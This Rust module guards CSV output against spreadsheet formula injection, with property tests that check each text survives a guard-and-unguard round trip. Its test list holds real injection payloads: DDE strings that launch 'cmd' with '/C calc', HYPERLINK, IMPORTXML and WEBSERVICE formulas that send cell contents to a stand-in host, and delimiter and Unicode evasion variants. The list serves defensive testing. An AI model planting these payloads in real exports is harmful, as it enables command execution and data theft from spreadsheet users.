//! The guard against formulas: text that no spreadsheet can take for a formula, and that comes back as it was.
//!
//! A spreadsheet may split a file at another delimiter than ours (Excel in fr-CA splits at `;`), may cut quoted text
//! at a line break, and may drop the spaces or quotes before what it reads. So a cell can begin anywhere after a
//! delimiter or a line break *inside* a text, not only at its head. At each of those places the guard puts one
//! apostrophe before a character that would begin a formula.

use std::borrow::Cow;

use crate::domain::invisible::is_invisible;

/// The text with an apostrophe before every character that could begin a formula at the start of some cell.
///
/// Where apostrophes already stand there, one more is put, which is why [`unguard`] always gives the text back.
pub fn guard(text: &str) -> Cow<'_, str> {
    rewrite(text, true)
}

/// The text as it was before [`guard`].
pub fn unguard(text: &str) -> Cow<'_, str> {
    rewrite(text, false)
}

/// The characters that make a cell a formula when it begins with them; fullwidth forms are taken alike by Excel.
fn is_trigger(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠')
}

/// After these a new cell may begin, in some reader.
fn ends_a_cell(c: char) -> bool {
    matches!(
        c,
        ',' | ';' | '\t' | '|' | '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{1c}'
            ..='\u{1e}' | '\u{85}' | '\u{2028}' | '\u{2029}'
    )
}

/// What a lax reader drops at the start of a cell.
fn is_dropped(c: char) -> bool {
    c == '"' || c.is_whitespace() || is_invisible(c)
}

/// Both directions in one walk: the places where a cell may begin are the same before and after, since an apostrophe
/// neither ends a cell nor moves any character out of a place where one begins.
fn rewrite(text: &str, add: bool) -> Cow<'_, str> {
    // Only what begins a formula gets or loses an apostrophe, and most texts have nothing that could: the fullwidth
    // signs begin with the byte EF, and few others do.
    if !text.bytes().any(|byte| matches!(byte, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | 0xef)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::new();
    let mut copied = 0;
    let mut begins = true;
    let mut apostrophes = 0_usize;
    for (at, c) in text.char_indices() {
        if begins && c == '\'' {
            apostrophes += 1;
            continue;
        }
        if begins && is_trigger(c) {
            if add {
                out.push_str(&text[copied..at]);
                out.push('\'');
                copied = at;
            } else if apostrophes > 0 {
                out.push_str(&text[copied..at - 1]);
                copied = at;
            }
        }
        begins = ends_a_cell(c) || (begins && apostrophes == 0 && is_dropped(c));
        apostrophes = 0;
    }
    if copied == 0 && out.is_empty() {
        return Cow::Borrowed(text);
    }
    out.push_str(&text[copied..]);
    Cow::Owned(out)
}

#[cfg(test)]
pub(crate) mod tests {
    use proptest::prelude::*;

    use super::*;

    /// Texts that try to become formulas.
    pub(crate) const PAYLOADS: &[&str] = &[
        "=1+1",
        "=cmd|'/C calc'!A0",
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{3000}=1+1",
        "'=1+1",
        "''=1+1",
        "=HYPERLINK(\"http://x/?d=\"&A1,\"clic\")",
        "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
        "=WEBSERVICE(\"http://x/\"&A1)",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=1+1;=2+2",
        "x;=1+1",
        "x,=1+1",
        "x\t=1+1",
        "x|=1+1",
        "x\";=1+1;\"",
        "x\",=1+1,\"",
        "\"=1+1\"",
        "\"\"=1+1",
        "x\n=1+1",
        "x\r\n=1+1",
        "x\r=1+1",
        "x\n\"=1+1\"",
        "x; =1+1",
        "x;\"=1+1\"",
        "x;+1",
        "x;@A1",
        "x;-1+cmd",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠A1",
        "x;＝1+1",
        "%0A=1+1",
        "\u{200b}=1+1",
        "\u{feff}=1+1",
        "=\u{200b}1+1",
        "\0=1+1",
        "\u{b}=1+1",
        "\u{1f}=1+1",
        "‘=1+1",
        "sep=;",
        "ID;PNom",
        "{=1+1}",
        "=-1",
        "=+1",
        "--1",
        "=@A1",
        "-@A1",
        "+@A1",
        "-=1",
        "R1C1",
        "=A1:A9",
        "=1",
        "-",
        "+",
        "@",
        "=",
        "a\r\n\r\n=1",
        "x;\"\t=1",
        "x;'\"=1",
        "\n\r=1",
        ";;=1",
    ];

    /// Alphabet of the random texts: everything that a reader treats apart, and a few plain letters.
    pub(crate) const NASTY: &str = "[ab1é,;\t|\n\r \u{a0}\u{3000}\"'=+\\-@＝＠\u{200b}\u{feff}]{0,12}";

    const TRIGGERS: &str = "=+-@\t\r＝＋－＠";
    pub(crate) const DELIMITERS: [char; 4] = [',', ';', '\t', '|'];

    /// Does a spreadsheet start a formula here?
    pub(crate) fn danger(cell: &str, lax_quote: bool) -> bool {
        let spaces = [' ', '\u{a0}', '\u{3000}', '\n'];
        let mut views = vec![cell, cell.trim_start_matches(spaces)];
        if lax_quote {
            views.push(cell.trim_start_matches([' ', '"', '\u{a0}', '\u{3000}']));
        }
        views.iter().any(|view| view.chars().next().is_some_and(|c| TRIGGERS.contains(c)))
    }

    /// Every cell that a reader without quotes finds in a file, cutting at each line break.
    pub(crate) fn naive_cells(file: &str, delimiter: char) -> impl Iterator<Item = &str> {
        file.split(['\n', '\r']).flat_map(move |line| line.split(delimiter))
    }

    /// Every cell that a forgiving CSV reader finds: quotes count at the head of a cell only, text may follow them.
    pub(crate) fn forgiving_cells(file: &str, delimiter: char) -> Vec<String> {
        let mut cells = vec![String::new()];
        let (mut at_head, mut quoted) = (true, false);
        let mut chars = file.chars().peekable();
        while let Some(c) = chars.next() {
            let cell = cells.last_mut().unwrap();
            if quoted {
                if c != '"' {
                    cell.push(c);
                } else if chars.peek() == Some(&'"') {
                    chars.next();
                    cell.push('"');
                } else {
                    quoted = false;
                }
            } else if c == delimiter || c == '\n' || c == '\r' {
                cells.push(String::new());
                at_head = true;
                continue;
            } else if at_head && c == '"' {
                quoted = true;
            } else {
                cell.push(c);
            }
            at_head = false;
        }
        cells
    }

    fn dangers(file: &str) -> Vec<String> {
        let mut found = Vec::new();
        for delimiter in DELIMITERS {
            found.extend(forgiving_cells(file, delimiter).into_iter().filter(|cell| danger(cell, false)));
            found.extend(naive_cells(file, delimiter).filter(|cell| danger(cell, true)).map(String::from));
        }
        found
    }

    #[test]
    fn no_payload_is_a_formula_in_any_reader_and_each_comes_back() {
        for text in PAYLOADS {
            let guarded = guard(text);
            let quoted = format!("\"{}\"", guarded.replace('"', "\"\""));
            assert!(!danger(&guarded, true), "{text:?}");
            for file in [guarded.to_string(), quoted.clone(), format!("a,{quoted},b"), format!("a;{quoted}\r\n")] {
                assert_eq!(dangers(&file), Vec::<String>::new(), "{text:?} in {file:?}");
            }
            assert_eq!(unguard(&guarded), *text);
        }
    }

    #[test]
    fn ordinary_text_is_left_as_it_is() {
        for text in ["", "L'école d'été", "2026-01-05", "Saint-Léonard, rue A - B", "a=b", "'", "l'«=»", "' =1"] {
            assert!(matches!(guard(text), Cow::Borrowed(same) if same == text), "{text:?}");
        }
        assert_eq!(guard("- un\n- deux"), "'- un\n'- deux");
        assert_eq!(unguard("'-"), "-");
        assert_eq!(unguard("-1"), "-1", "text never guarded is left alone");
    }

    proptest! {
        #[test]
        fn any_text_comes_back(text in any::<String>(), nasty in NASTY) {
            for text in [text, nasty] {
                let guarded = guard(&text);
                prop_assert_eq!(&*unguard(&guarded), &*text);
            }
        }

        #[test]
        fn no_cell_of_a_guarded_text_is_a_formula(text in NASTY) {
            let quoted = format!("x,\"{}\",y\n", guard(&text).replace('"', "\"\""));
            prop_assert_eq!(dangers(&quoted), Vec::<String>::new());
            prop_assert_eq!(dangers(&guard(&text)), Vec::<String>::new());
        }
    }
}
